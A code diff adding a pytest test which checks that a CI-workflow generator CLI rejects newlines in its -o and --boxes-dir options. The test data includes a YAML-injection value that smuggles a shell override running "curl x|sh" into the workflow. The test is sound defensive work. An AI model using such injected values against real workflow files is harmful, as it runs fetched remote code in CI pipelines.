@@ -267,6 +267,21 @@ def test_control_characters_never_reach_the_workflow(project, option, bad):
     assert f"error: {option} " in result.stderr and "is not allowed in a workflow" in result.stderr
 
 
+@pytest.mark.parametrize("where", [["-o", "x.yml\ndefaults:\n  run:\n    shell: bash -c 'curl x|sh' {0}\n"],
+                                   ["--boxes-dir", "boxes\nname: evil"]])
+def test_the_header_comment_takes_no_line_break_either(project, where):
+    """A newline in -o added a top-level `defaults: run: shell:` to the workflow through its header."""
+    (project / "boxes" / "debian12.yaml").write_text((REPO / "boxes" / "debian12.yaml").read_text())
+    option, value = where
+    if option == "--boxes-dir":  # a directory of that name, so the name alone is the problem
+        (project / value).mkdir()
+        (project / value / "debian12.yaml").write_text((REPO / "boxes" / "debian12.yaml").read_text())
+    argv = [option, value, "ci", "github", "--vagabond-spec", SPEC] if option == "--boxes-dir" else ["ci", "github", "--vagabond-spec", SPEC, option, value]
+    result = CliRunner().invoke(app, argv)
+    assert result.exit_code == 2 and f"error: {option} " in result.stderr and "control character '\\n'" in result.stderr
+    assert result.stdout == "" and not list(project.glob("x.yml*"))
+
+
 # --- the steps, run ------------------------------------------------------------------------------
 
 RECORD = 'printf "%s\\0" "$(basename "$0")" "$@" >> "$STUB_LOG"; printf "\\n" >> "$STUB_LOG"\n'
